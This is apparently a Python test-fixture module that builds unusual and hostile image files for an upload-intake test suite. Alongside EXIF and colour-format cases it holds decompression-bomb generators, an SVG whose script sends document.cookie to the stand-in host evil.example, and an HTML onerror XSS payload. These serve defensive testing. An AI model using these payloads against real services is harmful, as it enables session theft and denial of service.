"""Synthesises odd and hostile image files for the intake tests (everything in memory or a tmp dir).

Each function returns the file's bytes. Nothing here touches the shared test photos.
"""

from __future__ import annotations

import io
import struct
import zlib

import numpy as np
from PIL import Image

# The exif_transpose method for each EXIF orientation, and its inverse (what a camera stores).
STORED_FOR_ORIENTATION = {
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_90,  # shown after a 270 degree turn, so stored 90 degrees the other way
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_270,
}


def encode(img: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    img.save(buffer, format=fmt, **params)
    return buffer.getvalue()


def asymmetric(width: int = 48, height: int = 32) -> Image.Image:
    """An RGB picture whose every flip/rotation is distinguishable: red top-left block, blue bottom edge."""
    arr = np.full((height, width, 3), 200, dtype=np.uint8)
    arr[: height // 3, : width // 4] = (255, 0, 0)
    arr[-3:, :] = (0, 0, 255)
    arr[:, -2:] = (0, 160, 0)
    return Image.fromarray(arr, "RGB")


def with_orientation(upright: Image.Image, orientation: int, fmt: str = "PNG", **params) -> bytes:
    """``upright`` stored the way a camera would store it with EXIF ``orientation``."""
    stored = upright.transpose(STORED_FOR_ORIENTATION[orientation]) if orientation != 1 else upright
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encode(stored, fmt, exif=exif.tobytes(), **params)


def huge_exif_jpeg(upright: Image.Image, orientation: int = 6, payload: int = 60_000) -> bytes:
    """A JPEG whose EXIF block is almost as big as a JPEG segment allows (64 KiB), plus an orientation."""
    stored = upright.transpose(STORED_FOR_ORIENTATION[orientation])
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = "x" * payload  # ImageDescription
    return encode(stored, "JPEG", quality=95, exif=exif.tobytes())


def garbage_exif_jpeg(img: Image.Image) -> bytes:
    """A JPEG with an APP1 'Exif' segment full of nonsense."""
    rng = np.random.default_rng(7)
    junk = b"Exif\x00\x00MM\x00*" + rng.integers(0, 256, 2000, dtype=np.uint8).tobytes()
    return encode(img, "JPEG", exif=junk)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def raw_png(width: int, height: int, bit_depth: int, color_type: int, idat: bytes) -> bytes:
    """A PNG written by hand (for 16-bit colour, which PIL cannot write, and for bombs)."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def png16(pixels: np.ndarray) -> bytes:
    """A 16-bit PNG from a uint16 array: HxW (grey), HxWx2 (grey+alpha), HxWx3 (RGB) or HxWx4 (RGBA)."""
    arr = np.asarray(pixels, dtype=">u2")
    if arr.ndim == 2:
        arr = arr[:, :, None]
    height, width, channels = arr.shape
    color_type = {1: 0, 2: 4, 3: 2, 4: 6}[channels]
    rows = b"".join(b"\x00" + arr[y].tobytes() for y in range(height))
    return raw_png(width, height, 16, color_type, zlib.compress(rows))


def png_bomb(side: int = 40_000) -> bytes:
    """A valid 1-bit PNG of ``side`` x ``side`` zero pixels (1.6 gigapixels at 40000) in under 1 MB."""
    row = b"\x00" * (1 + (side + 7) // 8)
    block = row * 1000
    compressor = zlib.compressobj(1)
    parts = [compressor.compress(block) for _ in range(side // 1000)]
    parts.append(compressor.compress(row * (side % 1000)))
    parts.append(compressor.flush())
    return raw_png(side, side, 1, 0, b"".join(parts))


def gif_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A tiny GIF whose logical screen and single frame declare ``width`` x ``height`` pixels."""
    small = encode(Image.new("L", (1, 1), 0), "GIF")
    # Patch the logical screen and the image descriptor sizes.
    data = bytearray(small)
    data[6:10] = struct.pack("<HH", width, height)
    descriptor = data.index(b"\x2c")
    data[descriptor + 5 : descriptor + 9] = struct.pack("<HH", width, height)
    return bytes(data)


def cmyk_patches() -> tuple[Image.Image, list[tuple[tuple[int, int, int, int], tuple[int, int, int]]]]:
    """A CMYK picture of five 16 px patches and the sRGB colour each should decode to."""
    patches = [
        ((255, 0, 0, 0), (0, 255, 255)),  # cyan
        ((0, 255, 0, 0), (255, 0, 255)),  # magenta
        ((0, 0, 255, 0), (255, 255, 0)),  # yellow
        ((0, 0, 0, 255), (0, 0, 0)),  # black
        ((0, 0, 0, 0), (255, 255, 255)),  # paper white
    ]
    img = Image.new("CMYK", (16 * len(patches), 16))
    for i, (cmyk, _) in enumerate(patches):
        img.paste(cmyk, (16 * i, 0, 16 * (i + 1), 16))
    return img, patches


def animated(fmt: str, colors: list[tuple[int, int, int]], size: tuple[int, int] = (24, 16)) -> bytes:
    """An animation (GIF, WebP or PNG/APNG) with one flat frame per colour."""
    frames = [Image.new("RGB", size, color) for color in colors]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=100, loop=0)


def mpo(colors: list[tuple[int, int, int]], size: tuple[int, int] = (24, 16)) -> bytes:
    frames = [Image.new("RGB", size, color) for color in colors]
    return encode(frames[0], "MPO", save_all=True, append_images=frames[1:], quality=95)


def heic(img: Image.Image, **params) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    return encode(img, "HEIF", **params)


def heic_with_orientation(upright: Image.Image, orientation: int) -> bytes:
    """A lossless HEIC of ``upright`` stored turned, with an EXIF orientation (pillow-heif writes it as a
    HEIF transform that libheif applies when decoding)."""
    heic(Image.new("RGB", (1, 1)))  # registers the HEIF writer
    return with_orientation(upright, orientation, fmt="HEIF", quality=-1, chroma=444)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">\n'
    b"  <script>fetch('https://evil.example/?c=' + document.cookie)</script>\n"
    b'  <rect width="100%" height="100%" fill="red"/>\n'
    b"</svg>\n"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>"
TEXT_FILE = "Meeting notes\nBring the selfies — all of them.\n".encode()
EPS_FILE = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n0 0 moveto 10 10 lineto stroke\nshowpage\n"
PDF_FILE = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
FAKE_HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00garbage" * 20


def random_bytes(n: int = 4096, seed: int = 3) -> bytes:
    return np.random.default_rng(seed).integers(0, 256, n, dtype=np.uint8).tobytes()
